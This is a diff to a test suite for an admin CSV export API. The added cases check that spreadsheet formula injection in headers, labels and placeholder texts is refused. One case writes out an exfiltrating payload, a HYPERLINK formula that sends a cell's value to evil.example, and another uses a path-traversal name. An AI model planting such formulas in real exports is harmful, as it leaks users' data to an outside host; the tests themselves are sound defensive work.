@@ -112,6 +112,7 @@ describe('GET /api/admin/exports/{resource}: an admin list, whole, as CSV', () =
     expect(res.body).toEqual(listed.body);
   });
 
+  const FORMULA_REFUSED = 'Invalid columns: column 1 texts may not start with = + - @ or a tab (a spreadsheet would run them)';
   it.each([
     ['range (the export pages itself)', { range: [0, 9] }, 'property range should not exist'],
     ['limit (the audit screen limit shapes the screen only)', { limit: '50' }, 'property limit should not exist'],
@@ -122,6 +123,10 @@ describe('GET /api/admin/exports/{resource}: an admin list, whole, as CSV', () =
     ['a column without a header', { columns: [{ field: 'action' }] }, 'Invalid columns: column 1 needs a header of 1 to 200 characters'],
     ['a column with an unknown option', { columns: [{ header: 'A', field: 'action', width: 3 }] }, 'Invalid columns: column 1 has an unknown option "width"'],
     ['labels that are not texts', { columns: [{ header: 'A', field: 'action', labels: { LOGIN: 1 } }] }, 'Invalid columns: column 1 labels must map values to texts of up to 200 characters'],
+    ['a formula as a header (a link could plant it in a real export)', { columns: [{ header: '=HYPERLINK("http://evil.example/?"&B2,"x")', field: 'action' }] }, FORMULA_REFUSED],
+    ['a formula as a label', { columns: [{ header: 'Action', field: 'action', labels: { LOGIN: '+1+2' } }] }, FORMULA_REFUSED],
+    ['a formula as the empty text', { columns: [{ header: 'IP', field: 'ipAddress', empty: '@SUM(A1)' }] }, FORMULA_REFUSED],
+    ['a formula as the present text', { columns: [{ header: 'IP', field: 'ipAddress', present: '-1+2' }] }, FORMULA_REFUSED],
     ['a name with a slash', { name: '../audit' }, 'Invalid name: letters, digits, - and _ only (at most 100)'],
   ])('refuses %s with 400', async (_name, query, message) => {
     const res = await exportOf('audit-logs', query);
